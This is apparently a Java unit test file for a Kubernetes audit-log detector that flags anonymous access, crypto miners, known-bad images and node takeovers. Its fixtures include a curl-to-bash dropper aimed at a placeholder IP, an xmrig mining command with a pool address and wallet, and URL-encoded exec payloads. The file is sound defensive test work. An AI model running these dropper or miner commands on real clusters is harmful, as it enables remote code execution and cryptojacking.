package io.firedamp.detectors.controlplane;

import static io.firedamp.detectors.controlplane.Requests.anonymous;
import static io.firedamp.detectors.controlplane.Requests.request;
import static io.firedamp.detectors.controlplane.Requests.running;
import static org.assertj.core.api.Assertions.assertThat;

import io.firedamp.schemas.avro.AuditEvent;
import io.firedamp.schemas.avro.ContainerSpec;
import io.firedamp.schemas.avro.Owner;
import io.firedamp.schemas.avro.WorkloadSpec;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class RequestRulesTest {
  private static final String NGINX = "docker.io/library/nginx:1.25";
  private static final String DROPPER = "curl -s http://192.0.2.9:8220/logo3.jpg | bash -s";
  private static final String WALLET =
      "41e2vPcVux9NNeTfWe8TLK2UWxCXJvNyCQtNb69YEexdNs711jEaDRXWbwaVe4vUMveKAzAiA4j8xgUi29TpKXpm3zKTUYo";
  private static final String[] MINER = {
    "xmrig", "-o", "stratum+tcp://xmr.crypto-pool.fr:3333", "-u", "x", "--donate-level=1"
  };

  private final List<RequestRule> rules = ControlPlaneDetector.Settings.DEFAULTS.rules();

  @Test
  void weighsAnonymousReadingBelowAnonymousChanging() {
    assertThat(found(anonymous("list", "pods", "x"))).containsExactly("K8S-01 16.0");
    assertThat(found(anonymous("create", "pods", "x"))).containsExactly("K8S-01 42.0");
    assertThat(found(anonymous("get", "secrets", "x"))).containsExactly("K8S-01 42.0");
    assertThat(found(anonymous("get", "pods", "x").setSubresource("exec")))
        .containsExactly("K8S-01 42.0");
    assertThat(found(anonymous("list", "pods", "x").setDecision(null)))
        .containsExactly("K8S-01 16.0");
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "/healthz",
        "/livez/ping",
        "/readyz?verbose",
        "/version",
        "/openid/v1/jwks",
        "/.well-known/openid-configuration"
      })
  void leavesHealthChecksAlone(String uri) {
    assertThat(found(anonymous("get", "x", "x").setResource(null).setRequestUri(uri))).isEmpty();
  }

  @Test
  void leavesTheNamedAndTheRefusedAlone() {
    assertThat(found(request("list", "secrets", "x"))).isEmpty();
    assertThat(found(anonymous("list", "pods", "x").setDecision("forbid").setResponseCode(403)))
        .isEmpty();
    assertThat(found(anonymous("list", "pods", "x").setDecision(null).setResponseCode(401)))
        .isEmpty();
    assertThat(found(anonymous("list", "pods", "x").setDecision(null).setResponseCode(null)))
        .isEmpty();
  }

  @Test
  void findsKnownBadImagesAndImitations() {
    assertThat(deployed(running("docker.io/docker123321/cron:latest")))
        .containsExactly("K8S-06 50.0");
    assertThat(deployed(running("docker.io/someone/tomcat11:latest")))
        .containsExactly("K8S-06 12.0");
    assertThat(deployed(running("registry.example.com/team/nginx:1")))
        .containsExactly("K8S-06 4.0");
  }

  @Test
  void leavesOfficialAndVerifiedImagesAlone() {
    assertThat(deployed(running(NGINX))).isEmpty();
    assertThat(deployed(running("docker.io/bitnami/mysql:8"))).isEmpty();
  }

  @Test
  void findsAMinerInACommandOfACreateAndOfAPatch() {
    assertThat(deployed(running(NGINX, MINER))).containsExactly("K8S-07 46.0");
    assertThat(found(request("patch", "deployments", "web").setSpec(running(NGINX, MINER).build())))
        .containsExactly("K8S-07 46.0");
    assertThat(deployed(running(NGINX, "sh", "-c", DROPPER))).containsExactly("K8S-07 18.0");
  }

  @Test
  void leavesOrdinaryCommandsAndFailedRequestsAlone() {
    var failed = request("create", "deployments", "web").setSpec(running(NGINX, MINER).build());

    assertThat(deployed(running(NGINX, "nginx", "-g", "daemon off;"))).isEmpty();
    assertThat(found(failed.setResponseCode(409))).isEmpty();
    assertThat(found(failed.setResponseCode(201).setRequestUri("/x?dryRun=All"))).isEmpty();
  }

  @Test
  void isNotSilencedByTheTextOfADryRunElsewhere() {
    var create = request("create", "deployments", "web").setSpec(running(NGINX, MINER).build());
    var exec = anonymous("create", "pods", "x").setSubresource("exec");

    for (String uri : List.of("/x?fieldManager=dryRun=All", "/dryRun=All", "/x?dryRun=Allx")) {
      assertThat(found(create.setRequestUri(uri))).as(uri).containsExactly("K8S-07 46.0");
    }
    assertThat(found(exec.setRequestUri("/exec?command=sh&dryRun=All")))
        .containsExactly("K8S-01 42.0");
    assertThat(found(anonymous("list", "secrets", "x").setRequestUri("/secrets?dryRun=All")))
        .containsExactly("K8S-01 42.0");
  }

  @Test
  void findsWorkloadsThatSpread() {
    WorkloadSpec.Builder unknown =
        running("docker.io/xyzzy77/agent:1").setToleratesEverything(true);

    assertThat(daemonSet("jane", running("registry.example.com/team/agent:1")))
        .containsExactly("K8S-09 8.0");
    assertThat(daemonSet("jane", unknown)).containsExactly("K8S-09 14.0");
    assertThat(deployed(running(NGINX).setReplicas(10).setAntiAffinity(true)))
        .containsExactly("K8S-09 3.0");
  }

  @Test
  void leavesSmallWorkloadsAndTheSystemsOwnAlone() {
    assertThat(deployed(running(NGINX).setReplicas(50))).isEmpty();
    assertThat(deployed(running(NGINX).setReplicas(3).setAntiAffinity(true))).isEmpty();
    assertThat(daemonSet("system:serviceaccount:kube-system:addons", running(NGINX))).isEmpty();
    assertThat(daemonSet("jane", running("docker.io/bitnami/x:1").setToleratesEverything(true)))
        .containsExactly("K8S-09 3.0");
  }

  @Test
  void findsCronJobsThatComeBackWithinMinutesAndWideJobs() {
    assertThat(cron("*/5 * * * *", NGINX, "backup")).containsExactly("K8S-10 6.0");
    assertThat(cron("*/5 * * * *", NGINX, "sh", "-c", DROPPER))
        .containsExactly("K8S-07 18.0", "K8S-10 26.0");
    assertThat(
            found(
                request("create", "jobs", "j").setSpec(running(NGINX).setParallelism(10).build())))
        .containsExactly("K8S-10 6.0");
  }

  @Test
  void leavesNightlyAndNarrowJobsAlone() {
    assertThat(cron("30 2 * * *", NGINX, "backup")).isEmpty();
    assertThat(cron("@hourly", NGINX, "backup")).isEmpty();
    assertThat(
            found(request("create", "jobs", "j").setSpec(running(NGINX).setParallelism(4).build())))
        .isEmpty();
  }

  @Test
  void findsAMinerInTheCommandOfAnExecWhicheverVerbAsksForIt() {
    for (String verb : List.of("create", "get")) {
      assertThat(
              exec(
                  verb,
                  "command=.%2Fsysd&command=-o&command=stratum%2Btcp%3A%2F%2Fx.example%3A3333"))
          .containsExactly("K8S-16 46.0");
    }
    assertThat(
            exec("get", "command=sh&command=-c&command=curl+-s+http%3A%2F%2F192.0.2.9%2Fa+%7C+sh"))
        .containsExactly("K8S-16 20.0");
    assertThat(exec("create", "command=sh&stdin=true&tty=true")).containsExactly("K8S-16 4.0");
    assertThat(subject(request("get", "pods", "web-1").setSubresource("exec")))
        .isEqualTo("c/workload/principal//jane");
    assertThat(
            new Request(request("get", "pods", "web-1").setSubresource("exec").build())
                .object()
                .toString())
        .isEqualTo("c/pod/shop/web-1");
  }

  @Test
  void leavesWhoeverLooksForAMinerAlone() {
    assertThat(exec("create", "command=sh&command=-c&command=ps+aux+%7C+grep+-i+xmrig")).isEmpty();
    assertThat(exec("create", "command=pgrep&command=-f&command=xmrig")).isEmpty();
    assertThat(exec("create", "command=ls&command=-l&command=%2Ftmp%2Fxmrig")).isEmpty();
    assertThat(exec("create", "command=%zz")).isEmpty();
    assertThat(exec("create", "container=xmrig&stdout=true")).isEmpty();
  }

  @Test
  void findsAConfigurationWithAWalletAndAPool() {
    String pool = "xmr.crypto-pool.fr:3333";

    assertThat(configMap("config.json={\"url\": \"" + pool + "\", \"user\": \"" + WALLET + "\"}"))
        .containsExactly("K8S-07 40.0");
    assertThat(configMap("a=" + WALLET, "b=198.51.100.9:3333")).containsExactly("K8S-07 36.0");
    assertThat(configMap("block.hosts=0.0.0.0 xmr.crypto-pool.fr\n")).isEmpty();
    assertThat(configMap("rules=program in (xmrig, minerd) or url contains stratum+tcp://"))
        .isEmpty();
    assertThat(configMap("donate=" + WALLET)).isEmpty();
  }

  @Test
  void findsAWalletAndAnEndpointInTheEnvironment() {
    assertThat(environment("WALLET=" + WALLET, "POOL=203.0.113.9:3333"))
        .containsExactly("K8S-07 36.0");
    assertThat(environment("WALLET=" + WALLET)).isEmpty();
    assertThat(environment("POOL=203.0.113.9:3333")).isEmpty();
    assertThat(environment("DONATIONS=" + WALLET, "DATABASE=postgres://db.example:5432/shop"))
        .isEmpty();
  }

  @Test
  void takesAnImageInTheArgumentsOfAScannerForAMention() {
    assertThat(
            deployed(
                running("docker.io/aquasec/trivy:1", "trivy", "image", "docker.io/xmrig/xmrig:6")))
        .isEmpty();
    assertThat(deployed(running(NGINX, "run", "xmrig/xmrig:6"))).isEmpty();
    assertThat(deployed(running(NGINX, "/start.sh", "/opt/xmrig"))).containsExactly("K8S-07 46.0");
  }

  @Test
  void findsWhatTakesOverTheNodeUnlessAKnownMakerAsks() {
    assertThat(deployed(running("docker.io/xyzzy77/a:1").setHostPaths(List.of("/etc/cron.d/"))))
        .containsExactly("K8S-14 16.0");
    assertThat(deployed(running("registry.example.com/a:1").setHostPaths(List.of("/"))))
        .containsExactly("K8S-14 10.0");
    assertThat(deployed(running("quay.io/calico/node:v3").setHostPaths(List.of("/", "/etc/cni"))))
        .isEmpty();
    assertThat(deployed(running("docker.io/xyzzy77/a:1").setHostPaths(List.of("/var/log"))))
        .isEmpty();
  }

  @Test
  void saysThatMoreWasAskedForThanIsJudged() {
    assertThat(deployed(running(NGINX).setCut(true))).containsExactly("K8S-26 8.0");
  }

  @Test
  void nothingButAMinerOrAKnownBadImageIsMoreThanMediumAlone() {
    List<WorkloadSpec.Builder> ordinary =
        List.of(
            running("docker.io/xyzzy77/nginx:1").setToleratesEverything(true).setReplicas(20),
            running("docker.io/xyzzy77/a:1").setHostPaths(List.of("/")).setHostPid(true),
            running(NGINX, "sh", "-c", DROPPER).setSchedule("* * * * *").setCut(true));

    for (WorkloadSpec.Builder spec : ordinary) {
      assertThat(decibans(request("create", "cronjobs", "c").setSpec(spec.build())))
          .allSatisfy(weight -> assertThat(weight).isLessThan(41.8));
    }
  }

  @Test
  void doesNotTakeWhoeverActsInTheSystemsNameForTheSystem() {
    var request =
        request("create", "daemonsets", "d")
            .setUser("system:serviceaccount:kube-system:addons")
            .setImpersonatedUser("system:serviceaccount:kube-system:other")
            .setSpec(running(NGINX).build());

    assertThat(found(request)).containsExactly("K8S-09 3.0");
    assertThat(new Request(request.build()).attributes())
        .containsEntry("user.effective.name", "system:serviceaccount:kube-system:other");
  }

  @Test
  void namesTheOwnerOfAPodWhoseNameIsStillToBeMade() {
    Owner job = Owner.newBuilder().setKind("Job").setName("nightly").build();

    assertThat(
            subject(
                request("create", "pods", "x")
                    .setName(null)
                    .setOwners(List.of(job))
                    .setSpec(running(NGINX).build())))
        .isEqualTo("c/workload/job/shop/nightly");
  }

  @Test
  void namesTheRootOwnerOrThePrincipal() {
    WorkloadSpec spec = running(NGINX).build();
    Owner owner = Owner.newBuilder().setKind("ReplicaSet").setName("web-5d4f8c7b9").build();

    assertThat(subject(request("create", "deployments", "web").setSpec(spec)))
        .isEqualTo("c/workload/deployment/shop/web");
    assertThat(subject(request("create", "pods", "web-1").setSpec(spec).setOwners(List.of(owner))))
        .isEqualTo("c/workload/deployment/shop/web");
    assertThat(subject(request("create", "pods", "bare").setSpec(spec)))
        .isEqualTo("c/workload/pod/shop/bare");
    assertThat(subject(request("patch", "pods", "web-1"))).isEqualTo("c/pod/shop/web-1");
    assertThat(subject(request("list", "pods", "x"))).isEqualTo("c/workload/principal//jane");
  }

  private List<String> deployed(WorkloadSpec.Builder spec) {
    return found(request("create", "deployments", "web").setSpec(spec.build()));
  }

  private List<String> daemonSet(String user, WorkloadSpec.Builder spec) {
    return found(request("create", "daemonsets", "d").setUser(user).setSpec(spec.build()));
  }

  private List<String> cron(String schedule, String image, String... command) {
    return found(
        request("create", "cronjobs", "c")
            .setSpec(running(image, command).setSchedule(schedule).build()));
  }

  private List<String> found(AuditEvent.Builder event) {
    Request request = new Request(event.build());
    return request.failed()
        ? List.of()
        : rules.stream()
            .flatMap(
                rule ->
                    rule.judge(request).stream().map(found -> rule.id() + " " + found.decibans()))
            .toList();
  }

  private List<String> exec(String verb, String query) {
    return found(
        request(verb, "pods", "web-1")
            .setSubresource("exec")
            .setResponseCode(101)
            .setRequestUri("/api/v1/namespaces/shop/pods/web-1/exec?" + query));
  }

  private List<String> configMap(String... data) {
    return found(request("create", "configmaps", "web").setData(List.of(data)));
  }

  private List<String> environment(String... variables) {
    ContainerSpec plain = running(NGINX).build().getContainers().get(0);
    ContainerSpec told = ContainerSpec.newBuilder(plain).setEnv(List.of(variables)).build();
    return deployed(WorkloadSpec.newBuilder().setContainers(List.of(told)));
  }

  private List<Double> decibans(AuditEvent.Builder event) {
    Request request = new Request(event.build());
    return rules.stream()
        .flatMap(rule -> rule.judge(request).stream())
        .map(RequestRule.Verdict::decibans)
        .toList();
  }

  private static String subject(AuditEvent.Builder event) {
    return new Request(event.build()).subject().toString();
  }
}
